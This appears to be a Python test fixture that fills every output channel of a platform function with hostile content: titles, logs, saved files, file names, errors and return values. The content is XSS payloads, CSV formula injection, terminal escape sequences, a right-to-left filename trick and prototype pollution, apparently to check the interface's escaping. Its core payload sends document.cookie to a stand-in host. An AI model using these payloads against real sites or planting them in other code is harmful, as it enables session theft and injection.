"""A function all of whose words are scripts for whoever looks."""

import pathlib
from typing import Any

from localfn import Context, function

STRIKE = "window.struck=1;top.struck=1;alert(1);new Image().src='http://stranger.invalid/'+document.cookie"
SCRIPT = f"<script>{STRIKE}</script>"
MARKUP = f'"><img src=x onerror="{STRIKE}">{SCRIPT}</script><svg onload=\'{STRIKE}\'>{{{{constructor}}}}'
DRAWING = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" '
    f'onload="{STRIKE}">{SCRIPT}<image xlink:href="http://stranger.invalid/pixel" width="9" height="9"/>'
    f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:{STRIKE}"/></body>'
    "</foreignObject>"
    '<rect width="9" height="9"/></svg>'
)
TABLE = f'name,amount\n=HYPERLINK("http://stranger.invalid/"&A1),@SUM(1)\n"{MARKUP.replace(chr(34), chr(34) * 2)}",-2\n'
TRAPS = {
    "drawing.svg": DRAWING,
    "table.csv": TABLE,
    "page.csv": f"<!doctype html><html><body>{MARKUP}</body></html>",
    "page.png": f"<!doctype html><html><body>{MARKUP}</body></html>",
    "page.html": f"<!doctype html><html><body>{MARKUP}</body></html>",
    "<img src=x onerror=alert(1)>.csv": TABLE,
}


@function(
    input={
        "type": "object",
        "title": MARKUP,
        "properties": {"fail": {"type": "boolean", "title": MARKUP, "description": MARKUP, "default": False}},
    }
)
def set_traps(event: Any, context: Context) -> Any:
    """<img src=x onerror=alert(1)> looks at whoever looks.

    <script>alert(1)</script>
    """
    context.progress(0.5, MARKUP)
    print(MARKUP)
    print(f"\x1b[31m{MARKUP}\x1b[0m\x1b]8;;javascript:{STRIKE}\x07link\x1b]8;;\x07 \x1b[1;31;{'9' * 50}m\x1b[2J\x9b31m")
    print("http://stranger.invalid/ javascript:alert(1) \u202etxt.exe")
    context.logger.warning(MARKUP)
    for name, content in TRAPS.items():
        pathlib.Path("trap").write_text(content)
        context.save_file("trap", name=name)
    if event.get("fail"):
        raise type(f"Error{MARKUP}", (Exception,), {})(MARKUP)
    return {MARKUP: MARKUP, "link": f"javascript:{STRIKE}", "__proto__": {"struck": 1}, "constructor": MARKUP}
